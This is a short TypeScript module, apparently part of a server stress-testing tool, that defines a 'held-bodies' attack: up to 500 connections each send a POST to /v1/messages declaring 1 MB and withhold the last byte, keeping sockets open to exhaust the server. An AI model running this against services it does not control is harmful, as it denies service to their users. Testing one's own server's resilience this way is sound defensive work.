import { sized, type Attack } from '../../attack.ts'
import { headOf, keepOpen } from '../../requests.ts'

/** Bodies of 1 MB with a key, whose last octet does not come. */
export const heldBodies: Attack = {
  name: 'held-bodies',
  title: '500 bodies of 1 MB, each without its last octet',
  run: (target, signal, note) =>
    keepOpen(target, sized(target, 500), signal, note, (socket) => {
      const head = { ...target.own, 'content-length': '1000000' }
      socket.write(`${headOf('POST /v1/messages', head)}\r\n`)
      socket.write(Buffer.alloc(999_999, 'a'))
    }),
}
